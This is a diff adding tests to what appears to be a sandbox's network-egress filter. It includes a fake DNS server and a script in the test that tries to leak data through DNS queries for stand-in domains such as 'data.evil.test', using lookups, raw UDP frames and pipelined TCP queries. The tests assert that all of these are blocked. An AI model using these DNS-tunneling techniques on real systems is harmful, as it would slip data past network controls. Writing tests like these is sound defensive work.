@@ -57,6 +57,44 @@ async function listen(address: string, port: number, onVisit: (how: string) => v
   };
 }
 
+/** A name server, at the port that resolv.conf means, that knows every name; and what it was asked for. */
+async function startNameServer(address: string) {
+  const names: string[] = [];
+  const answer = (query: Buffer): Buffer => {
+    const labels: string[] = [];
+    let at = 12;
+    for (let length = query[at] ?? 0; length > 0; length = query[at] ?? 0) {
+      labels.push(query.toString('latin1', at + 1, at + 1 + length));
+      at += 1 + length;
+    }
+    names.push(labels.join('.').toLowerCase());
+    const question = query.subarray(12, at + 5);
+    const isA = query.readUInt16BE(at + 1) === 1;
+    const head = Buffer.from([query[0] ?? 0, query[1] ?? 0, 0x81, 0x80, 0, 1, 0, isA ? 1 : 0, 0, 0, 0, 0]);
+    const record = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4, 127, 7, 7, 1]);
+    return Buffer.concat([head, question, ...(isA ? [record] : [])]);
+  };
+  const datagrams = createSocket('udp4');
+  datagrams.on('message', (query, { port, address: at }) => datagrams.send(answer(query), port, at));
+  datagrams.bind(53, address);
+  await once(datagrams, 'listening');
+  const server = createServer((socket) => {
+    socket.on('error', () => undefined);
+    socket.on('data', (data) => {
+      const reply = answer(data.subarray(2));
+      socket.write(Buffer.concat([Buffer.from([0, reply.length]), reply]));
+    });
+  });
+  await once(server.listen(53, address), 'listening');
+  return {
+    names,
+    [Symbol.dispose]: () => {
+      datagrams.close();
+      server.close();
+    },
+  };
+}
+
 const target = { closedPort: 0, openPort: 0, ownPort: 0, visits: [] as string[], openVisits: [] as string[] };
 
 describe.each<{ readonly mechanism: SandboxMechanism }>([
@@ -185,6 +223,24 @@ describe.each<{ readonly mechanism: SandboxMechanism }>([
     },
   );
 
+  itRuns('a closed port is refused, the port of the relay too', { timeout: 120_000 }, async () => {
+    const { output } = await inSandbox(`${nodeTools} (async () => {
+      const counts = {};
+      for (const host of ['127.0.0.1', '::1', '127.0.0.2', '::ffff:127.0.0.1']) for (let round = 0; round < 12; round += 1) {
+        const what = host + ' ' + await new Promise((done) => { const socket = net.connect({ host, port: 1 }, () => { socket.destroy(); done('open'); }).on('error', ({ code }) => done(code)); });
+        counts[what] = (counts[what] ?? 0) + 1;
+      }
+      console.log(JSON.stringify(counts));
+      process.exit(0);
+    })();`);
+    expect(JSON.parse(output)).toEqual({
+      '127.0.0.1 ECONNREFUSED': 12,
+      '::1 ECONNREFUSED': 12,
+      '127.0.0.2 ECONNREFUSED': 12,
+      '::ffff:127.0.0.1 ECONNREFUSED': 12,
+    });
+  });
+
   itRuns('nothing that a page can do reaches what is closed', { timeout: 180_000 }, async ({ skip }) => {
     const runtimes = await readRuntimes(runtimesDirectory);
     const runtime = runtimes.find(runtimes.ids[0] ?? '');
@@ -216,6 +272,68 @@ describe.each<{ readonly mechanism: SandboxMechanism }>([
     expect(output).toContain('control 200');
     expect(output.match(/→/g)).toHaveLength(pageAttempts.length);
     expect(target.visits, output).toEqual([]);
+  });
+});
+
+describe.skipIf(!isRoot)('names that scripts ask for', () => {
+  it('go to the name servers of the host only where an address may come of them', {
+    timeout: 120_000,
+  }, async () => {
+    using server = await startNameServer('127.7.7.53');
+    const directory = mkdtempSync('/var/tmp/picket-egress-');
+    chmodSync(directory, 0o755);
+    const script = `${nodeTools} const dns = require('node:dns');
+      const frame = (name) => { const labels = name.split('.').flatMap((label) => [label.length, ...Buffer.from(label)]); const message = Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]); return Buffer.concat([Buffer.from([0, message.length]), message]); };
+      const overTcp = (...names) => new Promise((done) => { const socket = net.connect(53, '127.7.7.53', () => { for (const name of names) socket.write(frame(name)); }); let got = 0; socket.on('data', (data) => { got += data.length; if (names.length === 1) { socket.destroy(); done('answered'); } }).on('error', ({ code }) => done(code)).on('close', () => done('closed after ' + got)); });
+      const say = (what, promise) => promise.then((value) => console.log(what, String(value?.address ?? value)), ({ code }) => console.log(what, code));
+      (async () => {
+        await say('lookup', dns.promises.lookup('data.evil.test'));
+        await say('resolve', dns.promises.resolveTxt('more.evil.test'));
+        await say('spelt', new Promise((done) => { const socket = dgram.createSocket('udp4'); socket.on('message', (answer) => { socket.close(); done('code ' + (answer[3] & 15)); }); socket.send(frame('1.2.3.4%data.evil.test').subarray(2), 53, '127.7.7.53'); }));
+        await say('tcp', overTcp('tcp.evil.test'));
+        await say('tcp after another', overTcp('one.shop.test', 'second.evil.test'));
+        await say('no question', new Promise((done) => { const socket = dgram.createSocket('udp4'); socket.send('data in no question', 53, '127.7.7.53', () => { socket.close(); done('sent'); }); }));
+        await say('allowed', dns.promises.lookup('www.shop.test'));
+        await say('allowed by TCP', overTcp('tcp.shop.test'));
+        process.exit(0);
+      })();`;
+    const order = {
+      mechanism: 'uid+namespaces',
+      directory: join(directory, 'sandboxes'),
+      egress: { allow: '*.shop.test', deny: '*', ownPorts: [] },
+      script,
+    };
+    const file = join(directory, 'order.json');
+    const conf = join(directory, 'resolv.conf');
+    writeFileSync(file, JSON.stringify(order));
+    writeFileSync(conf, 'nameserver 127.7.7.53\noptions timeout:1 attempts:1\n');
+    chmodSync(conf, 0o644);
+    const main = join(import.meta.dirname, 'egress-main.ts');
+    const mounted = `mount --bind ${conf} /etc/resolv.conf && exec "$@"`;
+    try {
+      const { stdout } = await promisify(execFile)(systemProgram('unshare'), [
+        '--mount',
+        ...['/bin/sh', '-c', mounted, 'mounted', process.execPath, main, file],
+      ]);
+      const { output, end } = JSON.parse(stdout) as { output: string; end: SandboxedEnd };
+      expect(output.trim().split('\n')).toEqual([
+        'lookup ENOTFOUND',
+        'resolve ENOTFOUND',
+        'spelt code 3',
+        'tcp ECONNRESET',
+        expect.stringMatching(/^tcp after another (ECONNRESET|closed after 0)$/),
+        'no question sent',
+        'allowed 127.7.7.1',
+        'allowed by TCP answered',
+      ]);
+      expect(server.names.filter((name) => !name.endsWith('.shop.test'))).toEqual([]);
+      expect(server.names).toContain('www.shop.test');
+      expect(end.refusedConnections).toContain(
+        'a look-up of data.evil.test is refused by the rule * of EGRESS_DENY',
+      );
+    } finally {
+      rmSync(directory, { recursive: true, force: true });
+    }
   });
 });
 
